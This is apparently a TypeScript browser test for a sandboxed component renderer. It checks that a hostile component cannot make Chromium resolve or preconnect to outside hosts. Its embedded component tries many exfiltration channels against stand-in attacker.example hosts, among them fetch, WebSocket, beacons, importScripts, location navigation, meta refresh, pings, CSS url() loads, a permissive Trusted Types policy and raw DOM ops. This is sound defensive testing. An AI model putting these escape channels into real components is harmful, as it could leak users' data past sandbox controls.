// Issue 23, the preconnect leak: a component attempts every navigation and load a document
// can (location.href and .replace, a child <iframe src>, a meta refresh, <a download>,
// <a ping>, images, link hints, form actions, style url()s) plus a worker's (fetch, XHR,
// WebSocket, EventSource, importScripts, import(), a nested Worker, a beacon) and, bypassing
// React, posts its frame the raw ops for the same elements and attributes. Each names its own
// host under a name unique to this run; Chromium's net log (written by the browser process,
// outside every frame) must name none of them — no DNS lookup, no preconnect, no request.
// Before component code ran in a Worker, Chromium resolved and preconnected to the host of
// every navigation the frame attempted, even the ones CSP then refused.
//
// Controls, so a clean log means something: the app page itself fetches from one name, and a
// sandboxed srcdoc frame that runs code with a DOM (as component frames did) assigns
// location.href to another; both must appear, the frame's as a preconnect.
//
// Needs the built app (`npm run build`), the built binary (`cargo build`) and Chromium; it is
// skipped without them, like live.e2e.ts.
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasChromium, launch } from './browser';
import { hasWright, scenarioOf, startFakeModel, startWright, toolResults, type FakeModel, type ModelReply, type ModelRequest, type Wright } from './harness';

const built = existsSync(join(import.meta.dirname, '..', 'dist', 'index.html'));

/** Every way out, each to `<label>-<run>.attacker.example`. */
const LEAKS = `
class Contain extends React.Component {
  constructor(props) { super(props); this.state = { refused: false }; }
  static getDerivedStateFromError() { return { refused: true }; }
  componentDidCatch() {}
  render() { return this.state.refused ? 'refused' : this.props.children; }
}

/** What a hostile worker can send its frame without React: elements and attributes that load. */
function rawOps(url) {
  let id = 900000;
  const text = (value) => ({ id: ++id, text: value });
  const el = (tag, props, children = []) => ({ id: ++id, tag, props, children });
  const nodes = [
    el('iframe', { src: url('raw-iframe') }),
    el('a', { href: url('raw-a'), ping: url('raw-ping'), download: 'x' }, [text('raw link')]),
    el('img', { src: url('raw-img'), srcSet: url('raw-srcset') + ' 2x' }),
    el('meta', { httpEquiv: 'refresh', content: '0;url=' + url('raw-meta') }),
    el('link', { rel: 'preconnect', href: url('raw-link') }),
    el('object', { data: url('raw-object') }),
    el('embed', { src: url('raw-embed') }),
    el('base', { href: url('raw-base') }),
    el('video', { src: url('raw-video'), poster: url('raw-poster') }),
    el('style', {}, [text('@import "' + url('raw-style-import') + '";')]),
    el('form', { action: url('raw-form'), method: 'post' }, [el('button', { formAction: url('raw-formaction'), type: 'submit' }, [text('raw submit')])]),
    el('input', { type: 'image', src: url('raw-input-image') }),
    el('div', {
      href: url('raw-div-href'),
      src: url('raw-div-src'),
      style: {
        backgroundImage: 'url(' + url('raw-bg') + ')',
        background: 'url(' + url('raw-background') + ')',
        listStyleImage: 'url(' + url('raw-list') + ')',
        borderImage: 'url(' + url('raw-border') + ') 30',
        cursor: 'url(' + url('raw-cursor') + '), auto',
        content: 'url(' + url('raw-content') + ')',
        maskImage: 'url(' + url('raw-mask') + ')',
        filter: 'url(' + url('raw-filter') + '#f)',
        color: 'red',
      },
    }, [text('raw styled')]),
    el('svg', { width: 10, height: 10 }, [
      el('image', { href: url('raw-svg-image') }),
      el('use', { href: url('raw-svg-use') + '#x' }),
      el('circle', { r: 5, fill: 'url(' + url('raw-fill') + '#p)', style: { fill: 'url(' + url('raw-style-fill') + '#p)' } }),
    ]),
  ];
  return nodes.map((node) => ({ op: 'insert', parent: 0, before: null, node }));
}

export default function Leaks({ run }) {
  const url = (label) => 'http://' + label + '-' + run + '.attacker.example/' + label;
  useEffect(() => {
    const tried = {};
    const attempt = (name, action) => {
      try {
        const value = action();
        tried[name] = value === undefined ? 'ran' : String(value);
      } catch (error) {
        tried[name] = 'threw: ' + String((error && error.message) || error).slice(0, 120);
      }
    };
    // a document's ways out, as code written for a page with a DOM tries them
    attempt('domIframe', () => { const f = document.createElement('iframe'); f.src = url('dom-iframe'); document.body.append(f); });
    attempt('domMeta', () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + url('dom-meta'); document.head.append(m); });
    attempt('domDownload', () => { const a = document.createElement('a'); a.href = url('dom-download'); a.download = 'x'; document.body.append(a); a.click(); });
    // a worker's
    attempt('fetch', () => { fetch(url('fetch')).catch(() => {}); });
    attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); });
    attempt('webSocket', () => { new WebSocket(url('websocket').replace('http:', 'ws:')); });
    attempt('eventSource', () => { new EventSource(url('event-source')); });
    attempt('importScripts', () => importScripts(url('import-scripts')));
    attempt('dynamicImport', () => { import(url('dynamic-import')).catch(() => {}); });
    attempt('nestedWorker', () => { new Worker(url('nested-worker')); });
    attempt('beacon', () => navigator.sendBeacon(url('beacon'), 'x'));
    // the worker's own Trusted Types policy of the name the frame's CSP allows: past the
    // script-URL sinks, script-src still refuses the address
    attempt('trustedImportScripts', () => {
      const policy = trustedTypes.createPolicy('wright-worker', { createScriptURL: (value) => value });
      importScripts(policy.createScriptURL(url('trusted-import-scripts')));
    });
    attempt('trustedWorker', () => {
      const policy = trustedTypes.createPolicy('wright-worker', { createScriptURL: (value) => value });
      new Worker(policy.createScriptURL(url('trusted-worker')));
    });
    // the frame's own protocol, without React
    attempt('rawOps', () => postMessage({ t: 'ops', ops: rawOps(url) }));
    const timer = setTimeout(() => {
      attempt('domPing', () => { const a = document.createElement('a'); a.href = url('dom-ping-target'); a.ping = url('dom-ping'); document.body.append(a); a.click(); });
      attempt('locationReplace', () => location.replace(url('location-replace')));
      attempt('locationHref', () => { location.href = url('location-href'); });
      callTool('report', { tried, document: typeof document, window: typeof window }).catch(() => {});
    }, 1000);
    return () => clearTimeout(timer);
  }, []);
  return (
    <Card>
      <Text>leaks</Text>
      <Contain><iframe src={url('jsx-iframe')} title="child" /></Contain>
      <Contain><meta httpEquiv="refresh" content={'0;url=' + url('jsx-meta')} /></Contain>
      <Contain><a href={url('jsx-download')} download="x">jsx download</a></Contain>
      <Contain><a href={url('jsx-ping-target')} ping={url('jsx-ping')}>jsx ping</a></Contain>
      <Contain><img src={url('jsx-img')} alt="" /></Contain>
      <Contain><link rel="preconnect" href={url('jsx-link')} /></Contain>
      <div style={{ backgroundImage: 'url(' + url('jsx-style') + ')', color: 'teal' }}>jsx styled</div>
      <button formAction={url('jsx-formaction')}>jsx button</button>
    </Card>
  );
}`;

/** The net log Chromium writes while it runs; complete once the browser has closed. */
function readNetLog(path: string): { events: { type: number; source: { type: number }; params?: unknown }[]; constants: { logEventTypes: Record<string, number> } } {
  const text = readFileSync(path, 'utf8').trim();
  // a log cut short (a browser killed) lacks its closing brackets
  return JSON.parse(text.endsWith('}') ? text : `${text.replace(/,$/, '')}]}`);
}

/** For each `<label>-<run>.attacker.example` the log names: the event types that name it. */
function hostsNamed(path: string, run: string): Map<string, Set<string>> {
  const log = readNetLog(path);
  const types = Object.fromEntries(Object.entries(log.constants.logEventTypes).map(([name, value]) => [value, name]));
  const pattern = new RegExp(`([a-z0-9-]+)-${run}\\.attacker\\.example`, 'g');
  const hosts = new Map<string, Set<string>>();
  for (const event of log.events) {
    const params = JSON.stringify(event.params ?? {});
    for (const [, label] of params.matchAll(pattern)) {
      const seen = hosts.get(label) ?? new Set<string>();
      seen.add(`${types[event.type]}${params.includes('"is_preconnect":true') ? ' (is_preconnect)' : ''}`);
      hosts.set(label, seen);
    }
  }
  return hosts;
}

describe.skipIf(!built || !hasChromium || !hasWright)('no DNS lookup or preconnect for any address a component names (issue 23)', () => {
  const run = randomBytes(6).toString('hex');
  const logDir = mkdtempSync(join(tmpdir(), 'wright-netlog-'));
  const netLog = join(logDir, 'netlog.json');
  let fake: FakeModel;
  let wright: Wright;
  let browser: Browser | undefined;
  let page: Page;

  beforeAll(async () => {
    fake = await startFakeModel((request: ModelRequest): ModelReply => {
      if (scenarioOf(request) !== 'leaks') return { text: 'Hello.' };
      return toolResults(request).length ? { text: 'noted' } : { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Leaks', code: LEAKS, props: { run } } }] };
    });
    wright = await startWright(fake);
    // The names never reach a real resolver; the browser still logs every lookup it starts.
    browser = await launch([`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything', '--host-resolver-rules=MAP *.attacker.example ~NOTFOUND']);
    page = await (await browser.newContext({ viewport: { width: 1440, height: 900 } })).newPage();
    await page.goto(wright.url);
    await page.locator('#token').fill(wright.token);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: '+ New conversation' }).waitFor();
  });
  afterEach(async (context) => {
    if (context.task.result?.state === 'fail') console.error(`wright serve output:\n${wright.log().slice(-4000)}`);
  });
  afterAll(async () => {
    await browser?.close();
    await wright?.stop();
    await fake?.close();
    rmSync(logDir, { recursive: true, force: true });
  });

  it('a component that tries every navigation and load makes the browser resolve none of its hosts', async () => {
    await page.getByRole('button', { name: '+ New conversation' }).click();
    await page.waitForURL((url) => /\/c\/[^/]+$/.test(url.pathname));
    await page.getByLabel('Message').fill('scenario:leaks');
    await page.getByLabel('Message').press('Enter');
    await page.locator('iframe[title="Leaks"]').waitFor({ state: 'attached', timeout: 20_000 });
    const frame = page.frameLocator('iframe[title="Leaks"]');
    // (a frame that navigates itself away is removed by the canvas: this and the report below
    // may then never come, and the net log is what the test is about)
    const shown = await frame.getByText('jsx styled').waitFor({ timeout: 10_000 }).then(() => true, () => false);
    // what needs a person's click: whatever links and submit buttons the frame drew
    for (const name of ['jsx download', 'jsx ping', 'raw link', 'raw submit', 'jsx button']) {
      const target = frame.getByText(name, { exact: true });
      if (await target.count()) await target.first().click({ timeout: 2000 }).catch(() => {});
    }
    // What the frame drew, from outside it: nothing but allowlisted elements, no attribute
    // naming the attacker's host.
    const drawn = await page.frames().find((candidate) => candidate !== page.mainFrame() && candidate.url() === 'about:srcdoc')?.evaluate(() => {
      const root = document.getElementById('root')!;
      const elements = Array.from(root.querySelectorAll('*'));
      return {
        text: root.textContent ?? '',
        tags: [...new Set(elements.map((element) => element.localName))].sort(),
        naming: elements.flatMap((element) => Array.from(element.attributes).filter((attribute) => attribute.value.includes('attacker.example')).map((attribute) => `${element.localName} ${attribute.name}`)),
      };
    });

    // the controls: the page's own request, and a frame that runs code with a DOM
    // (a fetch: headless Chromium makes no preconnect for a <link rel=preconnect> hint)
    await page.evaluate((host) => void fetch(`http://${host}/`).catch(() => {}), `control-${run}.attacker.example`);
    const legacy = await browser!.newPage();
    const legacyFrame = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'; frame-src 'none'"><script>location.href = 'http://legacy-${run}.attacker.example/';</script>`;
    await legacy.setContent(`<iframe sandbox="allow-scripts" srcdoc="${legacyFrame.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`);

    const reported = () => fake.requests.filter((request) => scenarioOf(request) === 'leaks').map((request) => toolResults(request)[0]).find(Boolean);
    await expect.poll(reported, { timeout: 10_000 }).toBeTruthy().catch(() => {});
    await page.waitForTimeout(2000); // late attempts (the nested worker, refused loads) have landed
    await browser!.close(); // writes out the end of the net log
    browser = undefined;

    const hosts = hostsNamed(netLog, run);
    const named = Object.fromEntries([...hosts].map(([label, events]) => [label, [...events].sort()]));
    expect(Object.keys(named).filter((label) => label !== 'control' && label !== 'legacy'), JSON.stringify(named, null, 1)).toEqual([]);
    expect(Object.keys(named).sort(), 'the controls must appear').toEqual(['control', 'legacy']);
    expect(named.legacy.some((event) => event.includes('is_preconnect')), JSON.stringify(named.legacy)).toBe(true);

    expect(shown).toBe(true);
    expect(drawn).toBeDefined();
    expect(drawn!.naming).toEqual([]);
    // the raw ops did reach the frame, which drew what it allows of them (and the JSX alike)
    for (const shownText of ['raw styled', 'raw submit', 'jsx styled', 'jsx button']) expect(drawn!.text).toContain(shownText);
    for (const refusedText of ['raw link', 'jsx download', 'jsx ping']) expect(drawn!.text).not.toContain(refusedText);
    for (const tag of drawn!.tags) expect(['iframe', 'a', 'img', 'meta', 'link', 'object', 'embed', 'base', 'video', 'style', 'image', 'use', 'script']).not.toContain(tag);
    // the component ran where there is no document to navigate
    expect(reported()).toBeDefined();
    const report = JSON.parse(reported()!) as { tried: Record<string, string>; document: string; window: string };
    expect({ document: report.document, window: report.window }).toEqual({ document: 'undefined', window: 'undefined' });
    expect(report.tried.locationHref).toMatch(/^threw: /);
    expect(report.tried.locationReplace).toMatch(/^threw: /);
    // past Trusted Types (that refusal would say so), refused as a script that failed to load
    expect(report.tried.trustedImportScripts).toMatch(/^threw: Failed to execute 'importScripts' on 'WorkerGlobalScope': The script at /);
  }, 90_000);
});
